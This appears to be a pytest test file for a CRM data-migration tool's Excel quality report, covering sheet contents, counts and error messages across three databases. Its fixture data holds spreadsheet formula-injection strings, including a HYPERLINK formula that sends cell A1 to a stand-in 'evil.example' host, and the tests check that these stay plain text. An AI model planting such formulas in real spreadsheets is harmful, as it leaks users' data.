@@ -1,0 +1,235 @@
+"""The data-quality workbook, built from a target loaded by the real pipeline (SQLite, PostgreSQL, MariaDB).
+
+One module-scoped target per database kind: two runs of a small client dataset (the second
+with a record gone from the 1C export), pending review pairs, then the report written to
+.xlsx and read back with openpyxl and python-calamine. Client values that look like
+formulas (``=HYPERLINK``, ``@SUM``, ``-1``, ``+7 495 …``) are part of the data.
+"""
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from python_calamine import CalamineWorkbook
+from sqlalchemy import create_engine, func, insert, select
+from sqlalchemy.engine import make_url
+
+from connectors.crm_db import schema as s
+from connectors.crm_db.engine import TargetError
+from connectors.crm_db.report import COLUMN_NOTES, SHEETS, flatten_payload, quality_report
+from connectors.xlsx_writer import write_workbook
+from pipelines.runner import execute
+from tests.clientdata import BUH_ROWS, CRM_ROWS, write_dataset
+from tests.conftest import _server_database  # the target_url databases, kept for a whole module here
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Лютик")'
+CRM = [list(r) for r in CRM_ROWS]
+CRM[0][1] = "7707083890"  # Ромашка with an INN whose checksum fails: a warning
+CRM[2][3] = "+7 495 1234567"  # the branch's city holds a phone number
+BUH = [*BUH_ROWS,
+       ["-1", HYPERLINK, None, None, "12"],  # a formula as a company name, key "-1", a phone too short
+       ["@SUM(1+1)", None, None, None, "+7 495 765-43-21"]]  # no name: quarantined under key "@SUM(1+1)"
+LUTIK = BUH_ROWS[1]  # gone from the 1C export in the second run
+
+
+@dataclass
+class Built:
+    url: str
+    runs: list[str]  # run ids, oldest first
+    report: dict[str, pd.DataFrame]
+    workbook: openpyxl.Workbook
+    path: Path
+
+    def sheet(self, name: str) -> list[dict]:
+        """A sheet of the saved workbook as records (header → value)."""
+        rows = list(self.workbook[name].iter_rows(values_only=True))
+        return [dict(zip(rows[0], r)) for r in rows[1:]]
+
+    def scalar(self, query) -> object:  # noqa: ANN001
+        engine = create_engine(self.url)
+        try:
+            with engine.connect() as conn:
+                return conn.execute(query).scalar_one()
+        finally:
+            engine.dispose()
+
+
+@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres),
+                                        pytest.param("mariadb", marks=pytest.mark.mariadb)])
+def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
+    folder = tmp_path_factory.mktemp(f"report_{request.param}")
+    databases = _database(request.param, folder)
+    url = next(databases)
+    try:
+        with pytest.MonkeyPatch.context() as mp:
+            mp.setenv("DAGSTER_HOME", str(folder / "dagster_home"))
+            runs = [execute(write_dataset(folder, crm_rows=CRM, buh_rows=buh), target=url, dry_run=False).run_id
+                    for buh in (BUH, [r for r in BUH if r is not LUTIK])]
+        _add_review_pairs(url, runs[-1])
+        path = folder / "quality.xlsx"
+        report = quality_report(url)
+        write_workbook(path, report, column_notes=COLUMN_NOTES)
+        yield Built(url, runs, report, openpyxl.load_workbook(path), path)
+    finally:
+        databases.close()  # drops a server database
+
+
+def _database(kind: str, folder: Path) -> Iterator[str]:
+    if kind == "sqlite":
+        yield f"sqlite:///{folder / 'crm.db'}"
+    else:
+        yield from _server_database(kind)
+
+
+def _add_review_pairs(url: str, run_id: str) -> None:
+    """One pair waiting for a decision and one already decided (which the report leaves out)."""
+    pair = dict(entity="company", left_source="old_crm", left_key="Клиенты!7", right_source="buh")
+    engine = create_engine(url)
+    try:
+        with engine.begin() as conn:
+            conn.execute(insert(s.review_pairs), [
+                pair | dict(run_id=run_id, right_key="-1", score=72, reasons="=names alike (72)"),
+                pair | dict(run_id=run_id, right_key="@SUM(1+1)", score=90, reasons="same phone"),
+            ])
+            conn.execute(insert(s.match_decisions).values(
+                pair | dict(right_key="@SUM(1+1)", decision="different", decided_at=pd.Timestamp("2024-01-01"))))
+    finally:
+        engine.dispose()
+
+
+def test_sheets_in_order_with_their_columns(built: Built) -> None:
+    assert built.workbook.sheetnames == list(SHEETS)
+    for name, frame in built.report.items():
+        header = next(built.workbook[name].iter_rows(max_row=1, values_only=True))
+        assert list(header) == list(frame.columns)
+        assert built.workbook[name].max_row == len(frame) + 1
+
+
+def test_summary_is_the_last_run_and_the_live_crm(built: Built) -> None:
+    summary = {row["item"]: row["value"] for row in built.sheet("summary")}
+    c, ct, ph = s.companies, s.contacts, s.phones
+    assert summary["run id"] == built.runs[-1] and summary["status"] == "success"
+    assert summary["companies deleted"] == 1  # Лютик is gone from the 1C export
+    assert summary["records read"] == built.scalar(select(s.migration_runs.c.records_read)
+                                                   .where(s.migration_runs.c.id == built.runs[-1]))
+    live = c.c.deleted_at.is_(None)
+    assert summary["CRM now: companies"] == built.scalar(select(func.count()).where(live)) == 4
+    assert summary["CRM now: branches"] == built.scalar(select(func.count()).where(live, c.c.parent_id.is_not(None)))
+    assert summary["CRM now: contacts"] == built.scalar(select(func.count()).where(ct.c.deleted_at.is_(None))) == 3
+    assert summary["CRM now: companies with INN"] == 3 and summary["CRM now: companies with INN, %"] == 75.0
+    company_phones = built.scalar(select(func.count()).select_from(ph.join(c, c.c.id == ph.c.company_id))
+                                  .where(live, ph.c.contact_id.is_(None)))
+    contact_phones = built.scalar(select(func.count()).select_from(ph.join(ct, ct.c.id == ph.c.contact_id))
+                                  .where(ct.c.deleted_at.is_(None)))
+    assert summary["CRM now: phones"] == company_phones + contact_phones
+    assert summary["CRM now: phones not valid (kept as written)"] == 1  # "12"
+    assert summary["CRM now: review pairs waiting"] == 1
+    assert summary["quarantined"] == len(built.sheet("quarantine")) == 2
+
+
+def test_by_source_counts_the_links(built: Built) -> None:
+    by_source = {row["source"]: row for row in built.sheet("by_source")}
+    assert by_source["buh"] == {"source": "buh", "companies": 2, "contacts": 0, "gone_from_source": 1,
+                                "quarantined": 1, "with_warnings": 1}
+    sl = s.source_links
+    assert by_source["old_crm"]["companies"] == built.scalar(select(func.count()).where(
+        sl.c.source == "old_crm", sl.c.entity == "company", sl.c.deleted_at.is_(None))) == 4
+    assert by_source["old_crm"]["quarantined"] == 1
+
+
+def test_quarantine_rows_say_why(built: Built) -> None:
+    rows = built.sheet("quarantine")
+    assert {(r["source"], r["origin"], r["reasons"]) for r in rows} == {
+        ("old_crm", "Клиенты!8", "name: is empty"), ("buh", "buh.csv:4", "name: is empty")}  # line 4 once Лютик is gone
+    buh = next(r for r in rows if r["source"] == "buh")
+    assert buh["source_key"] == "@SUM(1+1)"
+    assert buh["record"] == "Код: @SUM(1+1); Телефон: +7 495 765-43-21"
+
+
+def test_warnings_name_the_record_to_fix(built: Built) -> None:
+    rows = built.sheet("warnings")
+    inn = next(r for r in rows if r["warning"].startswith("inn '7707083890'"))
+    assert (inn["source"], inn["origin"], inn["entity"], inn["crm_name"]) == (
+        "old_crm", "Клиенты!4", "company", 'ООО "Ромашка"')
+    phone = next(r for r in rows if r["source"] == "buh")
+    assert phone["source_key"] == "-1" and phone["warning"].startswith("phone '12'")
+    assert len(rows) == 2
+
+
+def test_duplicates_list_every_origin(built: Built) -> None:
+    (romashka,) = built.sheet("duplicates")
+    assert (romashka["entity"], romashka["name"], romashka["inn"], romashka["records"], romashka["sources"]) == (
+        "company", 'ООО "Ромашка"', "7707083893", 3, "old_crm, buh")
+    assert romashka["origins"].splitlines() == ["old_crm Клиенты!4", "old_crm Клиенты!5", "buh buh.csv:2 [001]"]
+
+
+def test_branches_point_at_their_head_office(built: Built) -> None:
+    (branch,) = built.sheet("branches")
+    assert (branch["name"], branch["kpp"], branch["city"], branch["head_office"], branch["head_office_kpp"]) == (
+        'ООО "Ромашка"', "781043001", "+7 495 1234567", 'ООО "Ромашка"', "773601001")
+
+
+def test_review_shows_pending_pairs_with_crm_names(built: Built) -> None:
+    (pair,) = built.sheet("review")
+    hyperlink_company = built.scalar(select(s.companies.c.name).where(s.companies.c.name.startswith("=")))
+    assert (pair["left_key"], pair["left_name"], pair["right_key"], pair["right_name"], pair["score"]) == (
+        "Клиенты!7", "ИП Кузнецов Павел Андреевич", "-1", hyperlink_company, 72)
+    assert pair["left_origin"] == "Клиенты!7" and pair["right_origin"] == "buh.csv:3"
+
+
+def test_runs_newest_first(built: Built) -> None:
+    assert [r["id"] for r in built.sheet("runs")] == built.runs[::-1]
+
+
+def test_client_text_never_becomes_a_formula(built: Built) -> None:
+    cells = [c for ws in built.workbook for row in ws.iter_rows() for c in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    hyperlink_company = built.scalar(select(s.companies.c.name).where(s.companies.c.name.startswith("=")))
+    assert hyperlink_company.startswith("=HYPERLINK(")
+    assert {hyperlink_company, "-1", "@SUM(1+1)", "+7 495 1234567", "=names alike (72)"} <= texts
+    assert all(c.quotePrefix for c in cells if c.value in {hyperlink_company, "-1", "@SUM(1+1)"})
+    calamine = CalamineWorkbook.from_path(str(built.path))
+    read = {v for name in calamine.sheet_names for row in calamine.get_sheet_by_name(name).to_python() for v in row}
+    assert {hyperlink_company, "-1", "@SUM(1+1)", "+7 495 1234567"} <= read
+
+
+def test_an_earlier_run_by_id_prefix(built: Built) -> None:
+    report = quality_report(built.url, built.runs[0][:8])
+    summary = dict(zip(report["summary"]["item"], report["summary"]["value"]))
+    assert summary["run id"] == built.runs[0] and summary["companies deleted"] == 0
+    assert summary["companies created"] == 5
+    assert len(report["quarantine"]) == 2
+
+
+def test_an_unknown_run_is_a_one_line_error(built: Built) -> None:
+    with pytest.raises(TargetError, match=r"^no run nosuchrun in .*\(the runs sheet") as error:
+        quality_report(built.url, "nosuchrun")
+    assert "\n" not in str(error.value)
+
+
+def test_a_target_without_data_is_a_one_line_error(target_url: str) -> None:
+    """Nothing is created by asking (no SQLite file); a password never shows."""
+    url = target_url if target_url.startswith("sqlite") else \
+        make_url(target_url).set(password="s3cret").render_as_string(hide_password=False)
+    with pytest.raises(TargetError) as error:
+        quality_report(url)
+    message = str(error.value)
+    assert "\n" not in message and "s3cret" not in message
+    assert message.startswith(("no crm-migrate data in", "target "))
+    if target_url.startswith("sqlite"):
+        assert message == f"no crm-migrate data in {target_url}: run `crm-migrate run` first"
+        assert not Path(make_url(target_url).database).exists()
+
+
+@pytest.mark.parametrize(("payload", "expected"), [
+    ('{"Город": "Москва", "ИНН": null, "Телефон": ["1", "2"]}', "Город: Москва; Телефон: 1, 2"),
+    ("not json", "not json"),
+    (None, None),
+])
+def test_stored_records_read_as_one_line(payload: str | None, expected: str | None) -> None:
+    assert flatten_payload(payload) == expected
